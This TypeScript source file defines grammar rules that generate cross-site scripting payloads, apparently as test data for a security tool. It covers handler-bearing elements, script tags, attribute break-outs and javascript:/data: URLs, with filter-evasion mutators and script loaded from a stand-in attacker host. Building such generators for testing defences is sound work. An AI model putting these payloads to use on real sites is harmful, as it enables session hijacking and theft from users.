/** Payloads of markup: elements with handlers, script elements, URLs with code, and forms that only parsers understand. */
import {
  bound,
  changed,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Part,
  type Rule,
  text,
  weighted,
  words,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { disguiseMarkup } from '../../mutators/markup.ts';
import { ATTACKER_HOST, MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE, WORD } from '../plausible-values.ts';
import { ELEMENT_WITH_HANDLER, HANDLER } from './handlers.ts';
import { CALL, SCRIPT, SYMBOL_CODE } from './script.ts';

/** Disguised as HTML allows, then carried as requests carry values. */
export function delivered(payload: Part): Rule {
  return evade(changed(payload, disguiseMarkup));
}

const OUTSIDE: Rule = oneOf(
  '',
  '',
  '',
  '"',
  "'",
  '">',
  "'>",
  '>',
  '"/>',
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</select>',
  '</option>',
  ']]>',
  '"></a>',
  '\\">',
  '--!>',
  '</iframe>',
  '*/',
);

/** What stands before markup: nothing mostly, a value, or what closes the element around. */
export const BREAK_OUT: Rule = weighted(
  [6, ''],
  [3, OUTSIDE],
  [2, text`${PLAUSIBLE_VALUE}${OUTSIDE}`],
  [1, text`${PLAUSIBLE_VALUE}`],
);

/** The code as an attribute value, in quotes where it needs them. */
export function quoted(code: Part): Rule {
  return bound(code, (written) => {
    const choices = [written.includes(' ') || written.includes('>') ? `"${written}"` : written];
    if (!written.includes('"')) choices.push(`"${written}"`);
    if (!written.includes("'")) choices.push(`'${written}'`);
    if (!written.includes('`') && !written.includes(' ')) choices.push(`\`${written}\``);
    return oneOf(...choices);
  });
}

const TAIL: Rule = weighted(
  [8, '>'],
  [2, ' >'],
  [1, '/>'],
  [1, ''],
  [1, '//'],
  [0.5, ' x="'],
  [0.5, '><!--'],
  [0.3, ' <!--'],
  [0.5, '></svg>'],
);
/** An element with a handler that runs a script. */
export const ELEMENT: Rule = text`<${ELEMENT_WITH_HANDLER}=${quoted(SCRIPT)}${TAIL}`;

/** `<svg onload=alert(1)>` and every other element with a handler. */
export const elementHandler: Rule = delivered(text`${BREAK_OUT}${ELEMENT}`);

const SCRIPT_ATTRIBUTE: Rule = oneOf(
  '',
  '',
  '',
  '',
  ' ',
  ' type=text/javascript',
  ' language=javascript',
  ' type="module"',
  ' x',
  ' async',
  '/x',
  '\n',
  ' nonce=a',
  ' defer',
);
const SCRIPT_URL: Rule = oneOf(
  text`${words('// http:// https:// //\\ \\\\ //')}${ATTACKER_HOST}${maybe(text`/${MARKER}${words('.js .php .svg')}`)}`,
  text`data:${oneOf('', 'text/javascript', 'application/javascript', ';base64', 'text/plain')},${CALL}`,
  text`//${characters(LOWER_CASE, 2, 4)}.${words('rs ws vc is gg')}`,
);

/** Script elements with code or a foreign source. */
export const scriptElement: Rule = delivered(
  text`${BREAK_OUT}${weighted(
    [8, text`<script${SCRIPT_ATTRIBUTE}>${SCRIPT}</script>`],
    [3, text`<script${SCRIPT_ATTRIBUTE} src=${quoted(SCRIPT_URL)}></script>`],
    [1, text`<script>${SCRIPT}//`],
    [1, text`<script>${SCRIPT}</script`],
    [1, text`<script >${SCRIPT}</script >`],
    [1, text`<svg><script>${SCRIPT}</script></svg>`],
    [0.5, text`<svg><script ${words('href xlink:href')}=${quoted(SCRIPT_URL)}></script>`],
    [0.5, text`<math><mi><script>${CALL}</script>`],
    [0.5, text`<script/src=${SCRIPT_URL}>`],
    [0.5, text`<script>/*<!--*/${CALL}//--></script>`],
    [0.5, text`<script>${SYMBOL_CODE}</script>`],
    [0.5, text`<script x> ${CALL} </script ${integer(1, 9)}=${integer(1, 9)}>`],
    [0.5, text`<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${CALL}</html:script>`],
    [0.5, text`<xml><x xmlns:xlink="http://www.w3.org/1999/xlink"><script>${CALL}</script></x></xml>`],
    [0.4, text`<script>${WORD}=${integer(0, 9)};${CALL}</script>${WORD}`],
  )}`,
);

const QUOTE: Rule = weighted([6, '"'], [5, "'"], [1, '` '], [0.5, '\\"'], [0.5, '&quot;'], [0.5, '%22']);
const FIRED_HANDLER: Rule = weighted(
  [3, 'autofocus onfocus'],
  [3, 'onmouseover'],
  [1, 'style=animation-name:x onanimationstart'],
  [1, 'accesskey=x onclick'],
  [1, 'tabindex=0 autofocus onfocusin'],
  [1, 'src=x onerror'],
  [1, 'style="position:fixed;left:0;top:0;width:100%;height:100%" onmouseover'],
  [1, 'popover onbeforetoggle'],
  [1, 'contenteditable autofocus onfocus'],
  [3, HANDLER],
);

/** Out of an attribute and into a handler: `" autofocus onfocus=alert(1) x="`. */
export const attributeBreakOut: Rule = delivered(
  weighted(
    [
      8,
      bound(
        QUOTE,
        (quote) =>
          text`${maybe(PLAUSIBLE_VALUE)}${quote} ${FIRED_HANDLER}=${quoted(SCRIPT)}${oneOf('', '', text` x=${quote}`, text` ${WORD}=${quote}`, '//', '>', text`;${quote}`)}`,
      ),
    ],
    [2, bound(oneOf('"', "'"), (quote) => text`${maybe(PLAUSIBLE_VALUE)}${quote}${FIRED_HANDLER}=${quote}${CALL}`)],
    [1, text`${WORD} ${FIRED_HANDLER}=${CALL}`],
    [1, bound(QUOTE, (quote) => text`${quote}/${HANDLER}=${CALL}/${quote}`)],
    [0.5, text`" style="x:expression(${CALL})"`],
  ),
);

const SCHEME: Rule = weighted(
  [10, 'javascript:'],
  [1, 'vbscript:'],
  [1, 'livescript:'],
  [2, 'JavaScript:'],
  [1, ' javascript:'],
  [1, '\x01javascript:'],
  [1, 'view-source:javascript:'],
  [1, 'feed:javascript:'],
);
const COMMENT_BEFORE: Rule = oneOf(
  '',
  '',
  '',
  '',
  '//%0a',
  '//%0d%0a',
  '/**/',
  '//a.example/%0a',
  '//\u2028',
  '%0a',
  '/*-/*`/*`/*\'/*"/**/',
  text`//${WORD}.com/%0a`,
  '"/*\'/*`/*--></noscript>*/',
  '-1/',
);

/** URLs that are code. */
export const CODE_URL: Rule = weighted(
  [8, text`${SCHEME}${COMMENT_BEFORE}${SCRIPT}${maybe('//', 0.1)}`],
  [1, text`javascript:void(${CALL})`],
  [1, text`javascript:${integer(0, 9)}?${CALL}:0`],
  [1, text`data:text/html,<${words('script svg')}>${CALL}</script>`],
  [1, text`data:text/html,<${ELEMENT_WITH_HANDLER}=${CALL}>`],
  [
    2,
    bound(
      text`<script>${CALL}</script>`,
      (markup) => `data:text/html;base64,${Buffer.from(markup).toString('base64')}`,
    ),
  ],
  [
    1,
    bound(
      text`<svg onload=${CALL}>`,
      (markup) =>
        `data:${markup.length % 2 === 0 ? 'image/svg+xml' : 'text/html'};base64,${Buffer.from(markup).toString('base64')}`,
    ),
  ],
  [1, text`data:text/html;charset=utf-${words('8 7 16')},%3Cscript%3E${CALL}%3C/script%3E`],
  [0.5, text`data:application/x-javascript,${CALL}`],
);

/** `javascript:` and `data:` URLs as a whole value. */
export const codeUrl: Rule = delivered(CODE_URL);

const URL_ELEMENT: Rule = weighted(
  [6, text`<a href=${quoted(CODE_URL)}>${WORD}</a>`],
  [4, text`<iframe src=${quoted(CODE_URL)}${oneOf('>', '></iframe>', ' >')}`],
  [2, text`<object data=${quoted(CODE_URL)}>${maybe('</object>')}`],
  [2, text`<embed src=${quoted(CODE_URL)}>`],
  [2, text`<form action=${quoted(CODE_URL)}><${oneOf('input type=submit', 'button>click</button')}>`],
  [2, text`<${oneOf('form><button', 'button form=x')} formaction=${quoted(CODE_URL)}>${WORD}`],
  [1, text`<isindex action=${quoted(CODE_URL)} type=image>`],
  [1, text`<svg><a ${words('xlink:href href')}=${quoted(CODE_URL)}><text x=20 y=20>${WORD}</text></a>`],
  [
    1,
    text`<svg><use href=${quoted(text`data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x`)}/>`,
  ],
  [1, text`<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=20 y=20>${WORD}</text></a>`],
  [1, text`<svg><set attributeName=href to=javascript:${CALL}>`],
  [1, text`<math><maction actiontype=statusline xlink:href=${quoted(CODE_URL)}>${WORD}</maction></math>`],
  [1, text`<math href=${quoted(CODE_URL)}>${WORD}</math>`],
  [2, text`<meta http-equiv=${oneOf('refresh', '"refresh"')} content="${integer(0, 9)};url=${CODE_URL}">`],
  [1, text`<base href=${oneOf(quoted(CODE_URL), text`"//${ATTACKER_HOST}/"`, text`//${ATTACKER_HOST}`)}>`],
  [1, text`<area href=${quoted(CODE_URL)} shape=default>`],
  [1, text`<img src=${quoted(text`javascript:${CALL}`)}>`],
  [1, text`<img ${words('dynsrc lowsrc')}=${quoted(text`javascript:${CALL}`)}>`],
  [1, text`<body background=${quoted(text`javascript:${CALL}`)}>`],
  [1, text`<link rel=${words('stylesheet import prefetch manifest')} href=${quoted(oneOf(CODE_URL, SCRIPT_URL))}>`],
  [1, text`<table background=${quoted(text`javascript:${CALL}`)}>`],
  [1, text`<bgsound src=${quoted(text`javascript:${CALL}`)}>`],
  [1, text`<input type=image src=${quoted(text`javascript:${CALL}`)}>`],
  [1, text`<frameset><frame src=${quoted(CODE_URL)}>`],
  [0.6, text`<portal src=${quoted(CODE_URL)}>`],
  [0.6, text`<object data="${CODE_URL}" type="text/html">`],
  [0.6, text`<param name=url value=${quoted(CODE_URL)}>`],
  [0.6, text`<xml src="${CODE_URL}" id=x>`],
  [0.6, text`[${WORD}](javascript:${CALL})`],
  [0.4, text`[url=javascript:${CALL}]${WORD}[/url]`],
);

/** Elements whose URL is code. */
export const urlElement: Rule = delivered(text`${BREAK_OUT}${URL_ELEMENT}`);
